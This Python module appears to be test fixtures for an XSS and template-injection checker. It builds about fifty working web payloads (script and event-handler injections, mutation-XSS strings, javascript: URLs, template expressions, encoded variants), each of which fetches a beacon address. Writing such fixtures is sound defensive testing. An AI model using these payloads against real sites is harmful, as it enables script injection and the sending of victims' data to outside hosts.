"""Texts that would run in a page that does not escape them: each sets `__hit`, calls the beacon, opens a dialog, or
leaves an element behind that no page of ours has."""

from __future__ import annotations

PRODUCT = 7_777_777
TEMPLATE_RESULT = str(7 * PRODUCT)
"""What a template would make of some of them."""
CALL = "(__hit=1,alert(1),fetch('{beacon}'))"
_FORMS = (
    "<script>{call}</script>",
    "<ScRiPt/x>{call}</sCrIpT >",
    "<script src={beacon}></script>",
    "</script><script>{call}</script>",
    "<script data-evil>{call}//",
    "--></script><img data-evil src=x onerror={call}>",
    "<img data-evil src=x onerror={call}>",
    "<img data-evil src={beacon}>",
    '"><img data-evil src=x onerror={call}>',
    "'><img data-evil src=x onerror={call}>",
    '" onmouseover="{call}" autofocus onfocus="{call}" x="',
    "' onfocus='{call}' autofocus x='",
    "` onfocus=`{call}` autofocus x=`",
    "<svg data-evil onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate data-evil onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><x-evil><mglyph><style><!--</style><img data-evil src=x onerror={call}>",
    "<noscript><p title='</noscript><img data-evil src=x onerror={call}>'>",
    "<svg></p><style><a id='</style><img data-evil src=1 onerror={call}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img data-evil src onerror={call}>",
    "<textarea></textarea><img data-evil src=x onerror={call}>",
    "</title></textarea></style></noscript></xmp><img data-evil src=x onerror={call}>",
    "<!--<img data-evil src='--><img data-evil src=x onerror={call}>'>",
    "<![CDATA[<img data-evil src=x onerror={call}>]]>",
    "<iframe data-evil srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe data-evil src=javascript:{call}></iframe>",
    "<a data-evil href=javascript:{call} autofocus>click</a>",
    "javascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    "<object data-evil data=javascript:{call}></object><embed data-evil src={beacon}>",
    "<base data-evil href={beacon}/><link data-evil rel=stylesheet href={beacon}>",
    "<meta data-evil http-equiv=refresh content='0;url={beacon}'>",
    "<style data-evil>@import '{beacon}';*{{background:url({beacon})}}</style>",
    "<form data-evil action={beacon}><input autofocus onfocus={call}><button>go",
    "<details data-evil open ontoggle={call}><video data-evil><source onerror={call}>",
    "<x-evil onfocus={call} tabindex=1 autofocus contenteditable>",
    "<template><x-evil></x-evil></template><x-evil><slot onslotchange={call}>",
    "{{{{7*7777777}}}} ${{7*7777777}} #{{7*7777777}} <%= 7*7777777 %> {{%print(7*7777777)%}}",
    "{{{{constructor.constructor('__hit=1')()}}}} ${{__hit=1}} {{{{config}}}} {{{{self.__init__.__globals__}}}}",
    "<?lit$7777777$><!--?lit$7777777$--><x-evil @click=${{{call}}} .innerHTML=${{'<img data-evil>'}}>",
    '{{"_$litType$":1,"strings":["<img data-evil src=x onerror={call}>"],"values":[]}}',
    "%3Cimg%20data-evil%20src%3Dx%20onerror%3D{call}%3E",
    "&lt;img data-evil src=x onerror={call}&gt; &#60;img data-evil&#62; \\u003cimg data-evil\\u003e \\x3cimg\\x3e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u2028\u2029</script><img data-evil src=x onerror={call}>",
    "<img data-evil src=x onerror\u000b={call}>\u0001<b data-evil>",
    'https://x.example/"onmouseover={call}//<img data-evil src=x onerror={call}>',
    "https://x.example/?q=<script>{call}</script>&r=javascript:{call}",
    "__proto__[innerHTML]=<img data-evil src=x onerror={call}>",
)


def payloads(beacon: str) -> list[str]:
    """All of them; `beacon` is an address that nobody may ask."""
    return [form.format(call=CALL.format(beacon=beacon), beacon=beacon) for form in _FORMS]


def short(beacon: str, most: int) -> list[str]:
    """Those that fit a field, cut as a hand would: an unclosed tag is as good."""
    return [text if len(text) <= most else text[:most] for text in payloads(beacon)]
